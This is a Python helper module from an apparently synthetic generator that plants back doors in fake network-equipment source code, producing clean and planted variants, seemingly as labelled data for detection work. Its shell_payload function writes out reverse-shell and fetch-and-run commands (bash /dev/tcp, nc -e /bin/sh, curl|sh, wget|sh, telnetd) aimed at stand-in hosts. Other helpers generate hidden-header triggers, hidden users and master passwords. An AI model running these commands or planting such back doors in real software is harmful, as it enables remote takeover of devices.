"""Helpers shared by the `source` family modules (source_*.py): templates, random vocabulary for
triggers, the project identity of one variant and the Variant record a shape returns.

Written blind: from public write-ups of back doors in network-equipment software only.
"""
from __future__ import annotations

import base64
import random
import re
import string
import textwrap
from dataclasses import dataclass, field

from .common import doc_host, doc_ip, port, product, secret, token_hex, word

# ----------------------------------------------------------------------------- templates

_PH = re.compile(r"@([A-Za-z][A-Za-z0-9_]*)@")
_PH_LINE = re.compile(r"([ \t]*)@([A-Za-z][A-Za-z0-9_]*)@[ \t]*")


def fill(tpl: str, _strict: bool = True, **kw) -> str:
    """Dedent a template and replace @name@ placeholders.

    A placeholder alone on its line is replaced by a (multi-line) block indented like the
    placeholder; an empty value removes the line. Unknown placeholders raise KeyError.
    """
    tpl = textwrap.dedent(tpl)
    if tpl.startswith("\n"):
        tpl = tpl[1:]
    out: list[str] = []
    lines = tpl.split("\n")
    for i, line in enumerate(lines):
        m = _PH_LINE.fullmatch(line)
        if m and m.group(2) in kw:
            val = kw[m.group(2)]
            if val is None or val == "":
                continue
            ind = m.group(1)
            raw = str(val)
            if raw.startswith("\n") and raw[1:2] in (" ", "\t"):
                raw = raw[1:]   # an indented f-string body; a leading "\n" + block() is a blank line
            val = textwrap.dedent(raw).rstrip("\n")
            vlines = val.split("\n")
            out.extend((ind + ln) if ln.strip() else "" for ln in vlines)
            nxt = lines[i + 1].strip() if i + 1 < len(lines) else ""
            # a block that ends a definition gets a blank line before the next one
            if len(vlines) > 2 and vlines[-1].strip() in ("}", "};", "end", "}}") and not ind \
                    and nxt and nxt not in ("}", "};", "end", ")"):
                out.append("")
            continue

        def rep(mm: re.Match) -> str:
            name = mm.group(1)
            if name not in kw:
                if _strict:
                    raise KeyError(f"template placeholder @{name}@ has no value")
                return mm.group(0)
            return str(kw[name])
        out.append(_PH.sub(rep, line))
    return "\n".join(out)


def block(text: str) -> str:
    """A dedented snippet without surrounding blank lines (for hook values)."""
    return textwrap.dedent(text).strip("\n")


def nest(text: str, spaces: int) -> str:
    """A snippet to put into an f-string template at column `spaces`: lines after the first are
    indented by that much, so the template's later dedent keeps the structure."""
    return block(text).replace("\n", "\n" + " " * spaces)


# ----------------------------------------------------------------------------- project identity

_LICENSES = ["MIT", "BSD-2-Clause", "Apache-2.0", "GPL-2.0-only", "ISC"]
_FIRST = ["Ana", "Bo", "Chen", "Dara", "Emil", "Femi", "Gita", "Hal", "Ines", "Jon", "Kai", "Lea",
          "Mato", "Nia", "Oren", "Pia", "Rui", "Sana", "Tomas", "Uma", "Vik", "Wen", "Yara", "Zeno"]


@dataclass
class Proj:
    name: str          # product, lower case ("kamilink")
    vendor: str        # vendor word ("rotorsol")
    domain: str        # vendor domain (*.example)
    version: str
    license: str
    author: str
    email: str
    year: int
    model: str         # hardware model string for READMEs ("KL-2041")

    @property
    def Name(self) -> str:
        return self.name[:1].upper() + self.name[1:]

    @property
    def Vendor(self) -> str:
        return self.vendor[:1].upper() + self.vendor[1:]

    @property
    def ident(self) -> str:
        return re.sub(r"[^a-z0-9_]", "_", self.name.lower())

    @property
    def IDENT(self) -> str:
        return self.ident.upper()


def draw_proj(rng: random.Random) -> Proj:
    name = product(rng)
    vendor = word(rng)
    domain = f"{vendor}.{rng.choice(['example', 'example.com', 'example.net', 'example.org'])}"
    version = f"{rng.randint(0, 4)}.{rng.randint(0, 19)}.{rng.randint(0, 12)}"
    first = rng.choice(_FIRST)
    last = word(rng).capitalize()
    author = f"{first} {last}"
    email = f"{first.lower()}.{last.lower()}@{domain}"
    model = f"{name[:2].upper()}-{rng.randint(100, 9999)}"
    return Proj(name=name, vendor=vendor, domain=domain, version=version,
                license=rng.choice(_LICENSES), author=author, email=email,
                year=rng.randint(2016, 2023), model=model)


# ----------------------------------------------------------------------------- trigger vocabulary

_HDR_A = ["Diag", "Dbg", "Debug", "Svc", "Mfg", "Factory", "Eng", "Trace", "Probe", "Maint",
          "Internal", "Vendor", "Qa", "Field", "Rma", "Tech", "Support", "Lab", "Prod", "Cfg"]
_HDR_B = ["Mode", "Tokn", "Token", "Key", "Auth", "Sesion", "Session", "Access", "Pass", "Id",
          "Code", "Ticket", "Level", "Unlock", "Override", "Ctx", "Sig", "Seed", "Hint", "Flag"]


def _misspell(rng: random.Random, w: str) -> str:
    if len(w) < 4 or rng.random() < 0.6:
        return w
    i = rng.randrange(1, len(w) - 1)
    if rng.random() < 0.5:
        return w[:i] + w[i + 1:]                       # drop a letter
    return w[:i] + w[i + 1] + w[i] + w[i + 2:]         # swap two letters


def header_name(rng: random.Random) -> str:
    """A rare or misspelt HTTP header name (canonical capitalisation)."""
    shape = rng.randrange(4)
    a = rng.choice(_HDR_A)
    b = _misspell(rng, rng.choice(_HDR_B))
    if shape == 0:
        return f"X-{a}-{b}"
    if shape == 1:
        return f"X-{word(rng, (1, 2)).capitalize()}-{b}"
    if shape == 2:
        return f"{a}-{word(rng, (1, 2)).capitalize()}"
    return f"X-{a}{b}"


def cgi_env(header: str) -> str:
    return "HTTP_" + header.upper().replace("-", "_")


def param_name(rng: random.Random) -> str:
    shape = rng.randrange(5)
    w = word(rng, (1, 2))
    if shape == 0:
        return "__" + w
    if shape == 1:
        return rng.choice(["dbg", "diag", "mfg", "svc", "eng", "tst", "x"]) + "_" + w
    if shape == 2:
        return w + rng.choice(["_x", "_cmd", "_op", "_do", "_run", "2"])
    if shape == 3:
        return "_" + w[:3] + str(rng.randint(1, 99))
    return w


def cookie_name(rng: random.Random) -> str:
    return rng.choice(["", "_", "x", "dbg_", "svc_", "mfg_"]) + word(rng, (1, 2)) + rng.choice(["", "_id", "key", "tk", "_s"])


def magic_value(rng: random.Random) -> str:
    """A magic token / password-like value, in one of several looks."""
    shape = rng.randrange(5)
    if shape == 0:
        return secret(rng, rng.randint(12, 24), string.ascii_letters + string.digits)
    if shape == 1:
        return token_hex(rng, rng.choice([8, 12, 16]))
    if shape == 2:
        w = word(rng, (2, 3))
        return f"{word(rng, (1, 2))}_{w[::-1]}{rng.randint(1000, 99999)}"
    if shape == 3:
        return f"{word(rng).capitalize()}{rng.choice('!#%+-_.@')}{rng.randint(10, 9999)}{word(rng, (1, 1))}"
    return secret(rng, rng.randint(10, 18))


def hidden_user(rng: random.Random) -> str:
    if rng.random() < 0.5:
        base = rng.choice(["support", "factory", "mfg", "diag", "service", "tech", "maint", "debug",
                           "eng", "fieldsvc", "rma", "super", "telecomadmin", "operator"])
        return base + rng.choice(["", "", str(rng.randint(1, 99)), "_" + word(rng, (1, 1))])
    return word(rng, (2, 3))


def master_password(rng: random.Random) -> str:
    shape = rng.randrange(4)
    if shape == 0:
        return secret(rng, rng.randint(10, 16))
    if shape == 1:
        return f"{word(rng).capitalize()}@{rng.randint(2010, 2024)}{rng.choice(['', '!', '#'])}"
    if shape == 2:
        return f"{word(rng, (1, 2))}{rng.randint(100, 99999)}{word(rng, (1, 1)).upper()}"
    return secret(rng, rng.randint(12, 20), string.ascii_letters + string.digits)


def url_path(rng: random.Random) -> str:
    return "/" + rng.choice(["", "cgi-bin/", "api/", "goform/", "ui/", "admin/"]) + rng.choice(
        ["", "_", "."]) + word(rng, (1, 3)) + rng.choice(["", ".cgi", ".asp", ".htm", "_do", ".php"])


# ----------------------------------------------------------------------------- payloads

def shell_payload(rng: random.Random, ip: str | None = None, host: str | None = None,
                  p: int | None = None) -> tuple[str, str]:
    """A shell command a back door would run: (command, kind)."""
    ip = ip or doc_ip(rng)
    host = host or doc_host(rng)
    p = p or port(rng)
    kind = rng.choice(["bash-tcp", "fifo-nc", "wget-sh", "curl-sh", "telnetd", "nc-listen", "busybox-nc"])
    if kind == "bash-tcp":
        return f"bash -i >& /dev/tcp/{ip}/{p} 0>&1", kind
    if kind == "fifo-nc":
        f = "/tmp/." + word(rng, (1, 2))
        return f"rm -f {f};mkfifo {f};cat {f}|/bin/sh -i 2>&1|nc {ip} {p} >{f}", kind
    if kind == "wget-sh":
        return f"wget -q -O- http://{host}/{word(rng, (1, 2))}.sh | sh", kind
    if kind == "curl-sh":
        return f"curl -fsSL http://{host}:{p}/{word(rng, (1, 2))} | sh", kind
    if kind == "telnetd":
        return f"telnetd -l /bin/sh -p {p}", kind
    if kind == "nc-listen":
        return f"nc -l -p {p} -e /bin/sh", kind
    return f"busybox nc {ip} {p} -e /bin/sh", kind


def b64(s: str | bytes) -> str:
    if isinstance(s, str):
        s = s.encode()
    return base64.b64encode(s).decode()


def c_string(s: str) -> str:
    """A C string literal."""
    return '"' + s.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n") + '"'


def c_bytes(data: bytes, per_line: int = 12, indent: str = "    ") -> str:
    rows = []
    for i in range(0, len(data), per_line):
        rows.append(indent + ", ".join(f"0x{b:02x}" for b in data[i:i + per_line]) + ",")
    return "\n".join(rows)


def wrap(s: str, width: int = 76) -> list[str]:
    return [s[i:i + width] for i in range(0, len(s), width)] or [""]


# ----------------------------------------------------------------------------- the variant record

@dataclass
class Variant:
    clean: dict          # path -> str | bytes | (str|bytes, mode)
    planted: dict
    paths: list          # label paths (files that carry the plant)
    note: str
    variant: dict
    categories: list = field(default_factory=list)   # extra categories beyond the class defaults
    severity: str = "critical"


def _pem(label: str, der: bytes) -> str:
    b = base64.b64encode(der).decode()
    return f"-----BEGIN {label}-----\n" + "\n".join(b[i:i + 64] for i in range(0, len(b), 64)) + f"\n-----END {label}-----\n"


def ec_public_pem(rng: random.Random) -> str:
    """A P-256 SubjectPublicKeyInfo PEM (random point bytes; structure as openssl writes it)."""
    der = bytes.fromhex("3059301306072a8648ce3d020106082a8648ce3d030107034200") + b"\x04" + \
        bytes(rng.randrange(256) for _ in range(64))
    return _pem("PUBLIC KEY", der)


def ec_private_pem(rng: random.Random) -> str:
    """An RFC 5915 P-256 private key PEM (random scalar and point bytes)."""
    der = bytes.fromhex("30770201010420") + bytes(rng.randrange(256) for _ in range(32)) + \
        bytes.fromhex("a00a06082a8648ce3d030107a144034200") + b"\x04" + bytes(rng.randrange(256) for _ in range(64))
    return _pem("EC PRIVATE KEY", der)


def sha256_hex(s: str) -> str:
    import hashlib
    return hashlib.sha256(s.encode()).hexdigest()


def md5_hex(s: str) -> str:
    import hashlib
    return hashlib.md5(s.encode()).hexdigest()


def license_header(P: Proj, style: str) -> str:
    text = f"Copyright (c) {P.year} {P.Vendor} Networks. SPDX-License-Identifier: {P.license}"
    if style == "c":
        return f"/* {text} */"
    if style in ("sh", "py", "perl"):
        return f"# {text}"
    if style == "lua":
        return f"-- {text}"
    if style == "js":
        return f"// {text}"
    return text


__all__ = ["fill", "block", "nest", "Proj", "draw_proj", "header_name", "cgi_env", "param_name", "cookie_name",
           "magic_value", "hidden_user", "master_password", "url_path", "shell_payload", "b64",
           "c_string", "c_bytes", "wrap", "Variant", "sha256_hex", "ec_public_pem", "ec_private_pem", "md5_hex", "license_header",
           "doc_host", "doc_ip", "port", "word", "secret", "token_hex"]
